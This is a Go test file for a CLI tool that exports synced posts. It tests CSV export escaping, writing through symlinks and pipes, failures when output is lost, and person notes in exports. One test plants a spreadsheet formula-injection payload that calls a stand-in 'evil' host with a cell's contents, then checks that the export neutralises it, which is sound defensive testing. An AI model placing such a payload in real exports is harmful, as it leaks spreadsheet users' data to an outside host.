package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"io"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/harkhq/hark/model"
	"github.com/harkhq/hark/store"
)

func TestCSVExportNeutralisesFormulas(t *testing.T) {
	srv := startShop(t)
	const attack = `=HYPERLINK("http://evil/?"&A1)`
	customer := srv.Posts()[0].AuthorID
	srv.AddPost(model.Post{AuthorID: customer, Text: attack + " @" + srv.Account().Username})
	env := testEnv(t, srv)
	runHark(t, env, "sync", "--once")
	out, err := runHark(t, env, "export", "--format", "csv")
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q opens as a formula", cell)
			}
			found = found || cell == "'"+attack+" @"+srv.Account().Username
		}
	}
	if !found {
		t.Error("the attacker's post is not in the export")
	}
}

func TestExportWritesThroughLinksAndDevices(t *testing.T) {
	srv := startShop(t)
	env := testEnv(t, srv)
	runHark(t, env, "sync", "--once")
	dir := t.TempDir()
	target := filepath.Join(dir, "real.jsonl")
	os.WriteFile(target, []byte("old"), 0o600)
	link := filepath.Join(dir, "link.jsonl")
	os.Symlink(target, link)
	if _, err := runHark(t, env, "export", "-o", link); err != nil {
		t.Fatal(err)
	}
	if info, _ := os.Lstat(link); info.Mode()&os.ModeSymlink == 0 {
		t.Error("the link was replaced by a file")
	}
	if b, _ := os.ReadFile(target); !bytes.Contains(b, []byte(`"conversation_id"`)) {
		t.Errorf("the link's target holds %.40q", b)
	}

	fifo := filepath.Join(dir, "pipe")
	if err := syscall.Mkfifo(fifo, 0o600); err != nil {
		t.Skip("no fifo here:", err)
	}
	read := make(chan []byte)
	go func() {
		f, _ := os.Open(fifo)
		b, _ := io.ReadAll(f)
		f.Close()
		read <- b
	}()
	if _, err := runHark(t, env, "export", "-o", fifo); err != nil {
		t.Fatal(err)
	}
	if b := <-read; !bytes.Contains(b, []byte(`"conversation_id"`)) {
		t.Errorf("the pipe got %.40q", b)
	}
	if info, _ := os.Lstat(fifo); info.Mode()&os.ModeNamedPipe == 0 {
		t.Error("the pipe was replaced by a file")
	}
}

// failingWriter is an output that is full.
type failingWriter struct{}

func (failingWriter) Write([]byte) (int, error) { return 0, syscall.ENOSPC }

func TestEveryCommandFailsWhenItsOutputIsLost(t *testing.T) {
	srv := startShop(t)
	env := testEnv(t, srv)
	runHark(t, env, "sync", "--once")
	for _, args := range [][]string{{"ls"}, {"search", "basket"}, {"export"}, {"ls", "--format", "jsonl"}} {
		cmd := newRoot(func(k string) string { return env[k] })
		cmd.SetOut(failingWriter{})
		cmd.SetErr(&bytes.Buffer{})
		cmd.SetArgs(args)
		if err := execute(cmd); !errors.Is(err, syscall.ENOSPC) {
			t.Errorf("%v: err %v", args, err)
		}
	}
}

// TestExportHasPersonNotes: a note on a person goes with each of their
// posts in the export (JSON and CSV), not with the shop's.
func TestExportHasPersonNotes(t *testing.T) {
	srv := startShop(t)
	env := testEnv(t, srv)
	mustRun(t, env, "sync", "--once")
	st, err := store.Open(filepath.Join(env["XDG_DATA_HOME"], "hark", "hark.db"))
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := st.AddPersonNote(2000000005, "Prefers DMs for order numbers", time.Now(), ""); err != nil {
		t.Fatal(err)
	}
	st.Close()
	out := mustRun(t, env, "export")
	found := false
	for _, line := range strings.Split(strings.TrimSpace(out), "\n") {
		var x exported
		if err := json.Unmarshal([]byte(line), &x); err != nil {
			t.Fatal(err)
		}
		has := len(x.PersonNotes) == 1 && x.PersonNotes[0] == "Prefers DMs for order numbers"
		if x.AuthorID == "2000000005" && !has || x.AuthorID != "2000000005" && len(x.PersonNotes) != 0 {
			t.Errorf("post %s of %s: person notes %v", x.ID, x.AuthorUsername, x.PersonNotes)
		}
		found = found || has
	}
	if !found {
		t.Error("kenji's note is in no row")
	}
	if csv := mustRun(t, env, "export", "--format", "csv"); !strings.Contains(csv, ",person_notes,network,network_ref,by,status_by,assignee\n") || !strings.Contains(csv, "Prefers DMs for order numbers") {
		t.Errorf("the CSV lacks the person notes")
	}
}
